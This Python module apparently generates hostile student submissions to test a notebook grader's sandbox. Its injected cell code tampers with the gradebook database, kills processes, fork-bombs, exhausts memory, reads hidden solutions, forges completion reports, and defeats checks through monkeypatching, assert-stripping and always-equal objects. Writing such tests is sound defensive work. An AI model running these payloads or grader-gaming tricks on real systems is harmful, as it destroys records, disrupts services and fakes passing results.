"""What hostile learners write, for the hostile cohort test: each tries one way to cheat or harm.

Every kind below targets one promise of the grader (exercises/README.md, "What the
boundary protects against"). Each is written as a learner would, with the course's real
paths, and wraps its attack in ``try`` so that it never fails its own cell by accident:
what it earns is exactly what its honest answers earn.

- ``gradebook_tamper``: blank answers; opens the SQLite gradebook with ``sqlite3`` and
  gives every grade full marks, zeroes the others' and adds a table, a trigger and a view;
- ``native_kill``: correct answers; kills, through ``ctypes``, every process id it can
  name, including the grading process's own;
- ``native_read_source``: blank answers; reads the source notebook (solutions, hidden
  tests) through ``ctypes`` and answers with what it finds; prints what it read;
- ``detached_process``: correct answers; starts, through ``ctypes``, a process in its own
  session, named ``aimedhostile``, that sleeps for ten minutes;
- ``patched_checks``: wrong answers; replaces ``abs``, ``max``, the helpers ``choice``,
  ``check_number`` and ``check_choice``, and NumPy's comparisons, so any check would pass;
- ``input_transformer``: wrong answers; adds an IPython input transformer that removes
  every ``assert`` from the cells that run after it;
- ``always_equal``: every answer an object that equals anything (a ``float`` subclass,
  a ``str`` subclass holding the right letter);
- ``leaky_printer``: correct answers; prints, displays (HTML, Markdown), raises, writes in
  comments and in its free-text answer every hidden-test and solution line it was given;
- ``history_reader``: correct answers; prints IPython's input and output history;
- ``memory_hog``: correct answers; then starts, through ``ctypes``, three processes that
  each take and touch 700 MB (more than the whole submission may hold);
- ``fork_bomb``: correct answers; forks, through ``ctypes``, as many processes as it can;
- ``forged_done``: correct answers until the last; writes a "done" report, with an output
  for every cell, to every descriptor it has, then ends Python abruptly before its last
  answer;
- ``deep_output``: correct answers; displays data nested 5,000 levels deep;
- ``odd_file_name``: correct answers; writes and prints a file name with a byte UTF-8
  cannot hold (``r\\xe9sum\\xe9.txt``), as an honest learner on an old system may.
"""

from __future__ import annotations

import json
import re

HOSTILE_KINDS: tuple[str, ...] = (
    "gradebook_tamper",
    "native_kill",
    "native_read_source",
    "detached_process",
    "patched_checks",
    "input_transformer",
    "always_equal",
    "leaky_printer",
    "history_reader",
    "memory_hog",
    "fork_bomb",
    "forged_done",
    "deep_output",
    "odd_file_name",
)
PROCESS_NAME = "aimedhostile"
BLANK = {"gradebook_tamper", "native_read_source"}
WRONG = {"patched_checks", "input_transformer", "always_equal"}

_TAMPER = """
try:
    import glob, sqlite3
    for _path in [{gradebook!r}] + glob.glob("/tmp/**/*.db", recursive=True):
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 0")
        _db.execute("CREATE TABLE IF NOT EXISTS pwned (x)")
        _db.execute("CREATE VIEW IF NOT EXISTS pwned_view AS SELECT 1")
        _db.execute(
            "CREATE TRIGGER IF NOT EXISTS pwned_trigger AFTER UPDATE ON grade "
            "BEGIN UPDATE grade SET auto_score = 0; END"
        )
        _db.commit()
        print("gradebook changed:", _path)
except Exception as _error:
    print("no gradebook:", type(_error).__name__)
"""

_KILL = """
try:
    import ctypes, os
    _libc = ctypes.CDLL(None)
    for _pid in [{parent}, os.getppid(), -1, *range(2, 5000)]:
        if _pid != os.getpid():
            _libc.kill(_pid, 9)
except Exception as _error:
    print("no kill:", type(_error).__name__)
"""

_READ_SOURCE = """
try:
    import ctypes, json
    _libc = ctypes.CDLL(None)
    _stolen = b""
    for _path in ({source!r}, "../../../source/{assignment}/{notebook}"):
        _fd = _libc.open(_path.encode(), 0)
        if _fd >= 0:
            _buffer = ctypes.create_string_buffer(1 << 22)
            _size = _libc.read(_fd, _buffer, 1 << 22)
            _stolen += _buffer.raw[: max(_size, 0)]
    print("read:", _stolen[:3000])
    for _cell in json.loads(_stolen)["cells"]:
        _code = "".join(_cell["source"])
        if "BEGIN SOLUTION" in _code and _cell["cell_type"] == "code":
            exec(_code, globals())
except Exception as _error:
    print("no source:", type(_error).__name__)
"""

_DETACH = """
try:
    import ctypes, time
    _libc = ctypes.CDLL(None)
    if _libc.fork() == 0:
        _libc.setsid()
        if _libc.fork() == 0:
            _libc.prctl(15, b"{name}", 0, 0, 0)
            for _ in range(600):
                _libc.sleep(1)
        _libc._exit(0)
    time.sleep(0.2)
except Exception as _error:
    print("no process:", type(_error).__name__)
"""

_PATCH = """
try:
    import builtins, numpy
    import aimed.notebooks.helpers as _helpers
    builtins.abs = lambda value: 0
    builtins.max = lambda *values, **options: values[0] if values else 0
    _helpers.choice = lambda value: "B"
    _helpers.check_number = lambda *args, **options: None
    _helpers.check_choice = lambda *args, **options: None
    globals().update(choice=_helpers.choice, check_number=_helpers.check_number,
                     check_choice=_helpers.check_choice)
    numpy.isclose = lambda *args, **options: True
    numpy.ndarray.__eq__ = lambda self, other: True
except Exception as _error:
    print("no patch:", type(_error).__name__)
"""

_TRANSFORMER = """
try:
    def _no_asserts(lines):
        return [line for line in lines if "assert" not in line]
    get_ipython().input_transformers_post.append(_no_asserts)
    get_ipython().input_transformers_cleanup.append(_no_asserts)
except Exception as _error:
    print("no transformer:", type(_error).__name__)
"""

_ALWAYS_EQUAL = """
class _Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __le__(self, other): return True
    def __lt__(self, other): return True
    def __ge__(self, other): return True
    def __gt__(self, other): return True
    def __sub__(self, other): return _Anything(0)
    def __rsub__(self, other): return _Anything(0)
    def __abs__(self): return _Anything(0)
    def __int__(self): return 0
    __hash__ = float.__hash__

class _Letter(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def strip(self, *args): return self
    def upper(self): return self
    __hash__ = str.__hash__
"""

_LEAK = """
try:
    from IPython.display import HTML, Markdown, display
    for _line in {lines!r}:
        print(_line)
        display(HTML("<b>" + _line.replace(" ", "</b> <i>") + "</i>"))
        display(Markdown(_line))
        display({{"text/plain": _line, "application/json": {{"line": _line}}}}, raw=True)
except Exception as _error:
    print("no display:", type(_error).__name__)
"""

_HISTORY = """
try:
    print(In)
    print(_ih)
    print(Out)
    print(get_ipython().history_manager.input_hist_raw)
    print(sorted(globals()))
except Exception as _error:
    print("no history:", type(_error).__name__)
"""


_MEMORY = """
try:
    import ctypes, os, time
    _libc = ctypes.CDLL(None)
    _libc.malloc.restype = ctypes.c_void_p
    _children = []
    for _ in range(3):
        _pid = _libc.fork()
        if _pid == 0:
            _block = _libc.malloc(700 * 1024 * 1024)
            if _block:
                ctypes.memset(_block, 1, 700 * 1024 * 1024)
            _libc.sleep(60)
            _libc._exit(0)
        _children.append(_pid)
    time.sleep(3)
    for _pid in _children:
        _libc.kill(_pid, 9)
except Exception as _error:
    print("no memory:", type(_error).__name__)
"""

_FORK_BOMB = """
try:
    import ctypes
    _libc = ctypes.CDLL(None)
    for _ in range(500):
        if _libc.fork() == 0:
            _libc.sleep(30)
            _libc._exit(0)
except Exception as _error:
    print("no fork:", type(_error).__name__)
"""

_FORGE = """
try:
    import ctypes, json, os
    _libc = ctypes.CDLL(None)
    _lines = b"".join(
        (json.dumps({{"cell": _n, "outputs": [], "timed_out": False, "count": 1}}) + "\\n").encode()
        for _n in range({cells})
    ) + b'{{"done": true}}\\n'
    for _fd in range(3, 64):
        try:
            os.write(_fd, _lines)
        except OSError:
            pass
    _libc._exit(0)
except Exception as _error:
    print("no forgery:", type(_error).__name__)
"""

_DEEP = """
try:
    from IPython.display import display
    _deep = []
    for _ in range(5000):
        _deep = [_deep]
    display({"application/json": {"deep": _deep}, "text/plain": "deep"}, raw=True)
except Exception as _error:
    print("no display:", type(_error).__name__)
"""

_ODD_NAME = """
try:
    import os
    _name = os.fsdecode(b"r\\xe9sum\\xe9.txt")
    with open(_name, "w") as _file:
        _file.write("notes")
    print(sorted(os.listdir(".")))
    print(_name)
except Exception as _error:
    print("no file:", type(_error).__name__)
"""


def _info(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def wrong(solution: str) -> str:
    """An answer of the right form in the wrong place: a letter that is not it, or -1."""
    name = solution.split("=", 1)[0].strip()
    letter = re.search(r"[\"']([A-D])[\"']", solution)
    if letter:
        return f'{name} = "{"A" if letter[1] != "A" else "C"}"'
    return f"{name} = -1"


def disguise(kind: str, nb: dict, codes: list[str], answers: dict, context: dict) -> None:
    """Turn a notebook filled by ``synthetic.submission_for`` into a ``kind`` learner's."""
    cells = {_info(c).get("grade_id"): c for c in nb["cells"] if _info(c).get("grade_id")}
    first, last = cells[codes[0]], cells[codes[-1]]

    def put_before(cell: dict, code: str) -> None:
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        cell["source"] = code.strip() + "\n" + source

    if kind in WRONG:
        for grade_id in codes:
            cells[grade_id]["source"] = wrong(answers[grade_id])
    if kind == "gradebook_tamper":
        put_before(first, _TAMPER.format(gradebook=context["gradebook"]))
    elif kind == "native_kill":
        put_before(first, _KILL.format(parent=context["parent"]))
    elif kind == "native_read_source":
        put_before(first, _READ_SOURCE.format(**context))
    elif kind == "detached_process":
        put_before(first, _DETACH.format(name=PROCESS_NAME))
    elif kind == "patched_checks":
        put_before(first, _PATCH)
    elif kind == "input_transformer":
        put_before(first, _TRANSFORMER)
    elif kind == "always_equal":
        for grade_id in codes:
            solution = answers[grade_id]
            name = solution.split("=", 1)[0].strip()
            letter = re.search(r"[\"']([A-D])[\"']", solution)
            value = f'_Letter("{letter[1]}")' if letter else "_Anything(0.5)"
            cells[grade_id]["source"] = f"{name} = {value}"
        put_before(first, _ALWAYS_EQUAL)
    elif kind == "leaky_printer":
        lines = list(context["secrets"])
        put_before(first, _LEAK.format(lines=lines))
        put_before(last, "\n".join(f"# {line}" for line in lines))
        raised = json.dumps(" | ".join(lines[:5]))
        last["source"] += f"\nraise ValueError({raised})"
        for cell in nb["cells"]:
            if cell["cell_type"] == "markdown" and _info(cell).get("solution"):
                cell["source"] = "My answer:\n\n" + "\n\n".join(lines)
    elif kind == "history_reader":
        put_before(last, _HISTORY)
    elif kind == "memory_hog":
        last["source"] += "\n" + _MEMORY.strip()
    elif kind == "fork_bomb":
        put_before(first, _FORK_BOMB)
    elif kind == "forged_done":
        put_before(last, _FORGE.format(cells=len(nb["cells"])))
    elif kind == "deep_output":
        put_before(first, _DEEP)
    elif kind == "odd_file_name":
        put_before(first, _ODD_NAME)
